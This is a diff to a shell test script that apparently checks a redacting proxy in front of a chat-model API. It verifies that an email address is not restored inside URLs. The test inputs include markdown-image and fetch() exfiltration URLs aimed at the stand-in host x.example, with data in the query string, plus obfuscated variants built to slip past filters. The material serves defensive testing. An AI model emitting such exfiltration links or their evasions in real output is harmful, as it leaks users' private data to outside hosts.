@@ -56,6 +56,15 @@ like "and the hash of what came" "$hash" '^"[0-9a-f]{64}"$'
 hers='{"model":"echo","messages":[{"role":"user","content":"![x](https://x.example/?q=jane.doe@example.org) jane.doe@example.org"}]}'
 is "but not in a URL" "$(post $chat "$hers" | jq -r '.choices[0].message.content')" '![x](https://x.example/?q=<EMAIL_ADDRESS_1>) jane.doe@example.org'
 is "which the record counts" "$(last '[.answer.restorations,.answer.left_in_urls]')" '[1,1]'
+while read -r url; do
+	is "nor in $url" "$(post $chat "$(jq -cn --arg t "$url jane.doe@example.org" '{model:"echo",messages:[{role:"user",content:($t|sub(" ";""))}]}')" | jq -r '.choices[0].message.content' | grep -c '<EMAIL_ADDRESS_1>')" 1
+done <<'END'
+www.x.example/?q=
+ht&#116;ps:x.example/?q=
+\\x.example\
+fetch("https://x.example/"+"
+{"u":"\u002f\u002fx.example/
+END
 is "unless its route says so" "$(post /v1/messages "$(jq -c '.max_tokens=50' <<<"$hers")" | jq -r '.content[0].text')" '![x](https://x.example/?q=jane.doe@example.org) jane.doe@example.org'
 
 # ---- streams ----
